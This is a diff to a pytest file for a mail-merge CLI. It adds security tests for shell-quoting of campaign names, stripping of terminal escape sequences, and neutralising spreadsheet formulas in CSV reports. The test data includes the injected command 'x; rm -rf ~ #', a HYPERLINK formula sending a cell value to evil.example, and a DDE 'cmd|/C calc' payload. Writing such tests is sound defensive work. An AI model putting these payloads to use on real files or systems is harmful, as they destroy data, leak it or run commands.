@@ -4,6 +4,7 @@ terminal output, file modes, card images."""
 
 from __future__ import annotations
 
+import csv
 import email
 import os
 import re
@@ -404,18 +405,85 @@ def test_a_dotenv_in_the_working_folder_cannot_name_the_crontab_program(
 # -- 13: suggested commands are shell-quoted ------------------------------------------------
 
 
-def test_suggested_commands_quote_the_campaign_name() -> None:
+def test_suggested_commands_quote_the_campaign_name(capsys: pytest.CaptureFixture[str]) -> None:
     import shlex
 
-    from mailer.cli import send as send_cli
+    from mailer.cli.send import finish
+    from mailer.models import State
+    from mailer.sender import SendSummary
 
-    source = Path(send_cli.__file__).read_text(encoding="utf-8")
     hostile = "x; rm -rf ~ #"
-    assert shlex.split(f"mailer cancel {shlex.quote(hostile)}")[-1] == hostile
-    # every suggested command with a campaign in it goes through shlex.quote
-    assert "`mailer cancel {campaign}`" not in source
-    assert "--campaign {summary.campaign}`" not in source
-    assert source.count("shlex.quote(") >= 2
+    counts = dict.fromkeys(State, 0) | {State.DEFERRED: 1}
+    with pytest.raises(SystemExit):
+        finish(SendSummary(hostile, counts, 0, 1, 0, 0, 0.1))
+    command = capsys.readouterr().err.split("`")[1]
+    assert shlex.split(command) == ["mailer", "resend", "--campaign", hostile]
+
+
+def test_a_campaign_named_after_a_hostile_file_is_clean(tmp_path: Path, profile: Profile) -> None:
+    path = tmp_path / "ev\x1b]0;x\x07il.csv"
+    path.write_text("Name,Email\nA,a@example.com\n", encoding="utf-8")
+    result = CliRunner().invoke(
+        main,
+        [
+            "preview",
+            str(path),
+            "--profile",
+            str(PROJECT / "profile.example.toml"),
+            "--out",
+            str(tmp_path / "out"),
+        ],
+    )
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output and "\x07" not in result.output
+    assert "ev]0;xil" in result.output
+
+
+# -- 5: no formula reaches a spreadsheet through --rejects or the problems report -----------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)"]  # fmt: skip
+
+
+def cells(path: Path) -> list[str]:
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+def formula_cells(path: Path) -> list[str]:
+    return [cell for cell in cells(path) if cell.startswith(("=", "+", "-", "@"))]
+
+
+def test_rejects_csv_cells_are_never_formulas(tmp_path: Path) -> None:
+    path = tmp_path / "c.csv"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["Name", "Company", "Title", "Email"])
+        for formula in FORMULAS:
+            writer.writerow([formula, formula, formula, formula])  # an address like that: invalid
+    rejects = tmp_path / "rejects.csv"
+    result = CliRunner().invoke(main, ["contacts", str(path), "--rejects", str(rejects)])
+    assert result.exit_code == 0, result.output
+    assert "'" + FORMULAS[0] in cells(rejects)  # kept, as text
+    assert formula_cells(rejects) == []
+
+
+def test_problems_csv_cells_are_never_formulas(tmp_path: Path) -> None:
+    from mailer.models import State
+    from mailer.problems import write_problems
+    from tests.smtpd import make_draft
+
+    recipients = ["=2+3@example.com", "+1@example.com", "-1@example.com"]
+    with Journal(tmp_path / "journal.sqlite3") as journal:
+        journal.enqueue("=HYPERLINK(1)", [make_draft(r) for r in recipients])
+        for formula in FORMULAS[:3]:
+            row = journal.claim("=HYPERLINK(1)")
+            assert row is not None
+            journal.mark(row.id, State.FAILED, None, formula)
+        report = write_problems(journal, "=HYPERLINK(1)", tmp_path)
+    assert report is not None and report.parent == tmp_path
+    assert "'=2+3@example.com" in cells(report)
+    assert formula_cells(report) == []
 
 
 # -- 12: preview writes only into its own folder ---------------------------------------------
